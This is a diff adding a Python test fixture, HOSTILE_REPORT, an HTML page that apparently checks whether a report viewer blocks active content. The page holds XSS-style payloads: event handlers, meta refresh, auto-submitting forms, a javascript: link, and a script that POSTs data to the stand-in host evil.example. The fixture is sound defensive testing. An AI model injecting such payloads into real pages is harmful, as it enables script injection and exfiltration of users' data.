@@ -77,3 +77,25 @@ class Rows:
 
     async def answer(self, query):
         return make_answer()
+
+
+# Of somebody else's root: it would run, ask the service, tell another server, and lead away.
+HOSTILE_REPORT = """<!doctype html><title>miniature</title>
+<meta http-equiv="refresh" content="0;url=/v1/about?refreshed">
+<style>h1 { color: rgb(1, 2, 3) } body { background: url(/v1/media/0?style) }</style>
+<h1>The report</h1>
+<img id="inline" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
+<img src="/v1/media/0?image" onerror="document.title = 'SCRIPT RAN'">
+<iframe src="/v1/about?frame"></iframe><object data="/v1/about?object"></object>
+<link rel="stylesheet" href="/v1/about?sheet">
+<form id="form" action="/v1/lookup?form" method="post"><button autofocus>go</button></form>
+<script src="/v1/about?script"></script>
+<script>
+document.title = 'SCRIPT RAN';
+fetch('/v1/about?fetch').then((told) => fetch('https://evil.example/', {method: 'POST', body: told.url}));
+document.getElementById('form').submit();
+window.open('/v1/about?opened');
+</script>
+<svg onload="document.title = 'SCRIPT RAN'"></svg>
+<a href="javascript:document.title = 'SCRIPT RAN'">a link</a>
+"""
